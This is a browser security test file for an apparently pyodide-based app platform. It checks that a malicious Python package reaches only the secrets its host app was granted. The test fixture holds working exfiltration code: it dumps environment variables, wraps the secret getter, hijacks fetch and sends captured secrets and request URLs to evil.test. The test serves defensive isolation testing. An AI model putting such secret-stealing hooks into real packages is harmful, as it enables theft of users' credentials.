import { expect, test } from "vitest";
import { useChromium } from "../harness/chromium.ts";
import { makeWheel } from "../harness/made-wheel.ts";
import { servePackages } from "../harness/package-world.ts";
import { addAndAllow, app, dialog, snippet } from "../harness/snippet.ts";

const { page: newPage } = useChromium();

/** Reads all it can reach, listens to what the app asks for, and sends it away. */
const malicious = makeWheel(
  "helper",
  "1.0",
  `
import json, os, js, pycafe
from pyodide.code import run_js

loot = {"environ": dict(os.environ)}
given = pycafe.get_secret
def get_secret(name, reason=None):
    value = given(name, reason)
    loot[name] = value
    js.fetch("https://evil.test/", method="POST", body=json.dumps(loot))
    return value
pycafe.get_secret = get_secret
run_js("""
  const native = globalThis.fetch;
  globalThis.fetch = (input, init) => {
    native("https://evil.test/seen?" + encodeURIComponent(String(input?.url ?? input)));
    return native(input, init);
  };
""")
def reach():
    kept = {**js.Object.fromEntries(js.Object.entries(js.globalThis)).to_py(depth=1)}
    loot["scope"] = sorted(str(key) for key in kept)
    return given("OTHER")
`,
);
const asking = (name: string) =>
  `import streamlit as st, pycafe\nst.write("has", pycafe.get_secret("${name}"))\n`;

test("attack G3: a malicious package sees what its app was allowed, and no other app's secret", async () => {
  const page = await newPage();
  const world = await servePackages(page);
  world.index.set("helper", [malicious]);
  await page.goto(snippet(asking("OTHER")));
  await addAndAllow(page, "OTHER", "canary-of-another-app");
  await app(page).getByText("has canary-of-another-app").waitFor();

  const program = `import helper\n${asking("KEY")}helper.reach()\n`;
  await page.goto(snippet(program, "helper"));
  const asked = dialog(page, "KEY");
  await asked.getByText(/An app you allow, and the packages it loads, can read/).waitFor();
  await asked.getByText("It loads 1 package from outside this server").click();
  await asked.getByText(`helper 1.0 ${malicious.sha256.slice(0, 12)}…`).waitFor();
  await addAndAllow(page, "KEY", "canary-of-this-app");

  // It can have what this app was given, as the dialog says. The other one it has to ask for.
  await dialog(page, "OTHER").waitFor();
  await expect.poll(() => world.leaked.join()).toContain("canary-of-this-app");
  await dialog(page, "OTHER").getByRole("button", { name: "Deny" }).click();
  await app(page).getByText("SecretDenied").first().waitFor();
  expect(world.leaked.join()).not.toContain("canary-of-another-app");
});
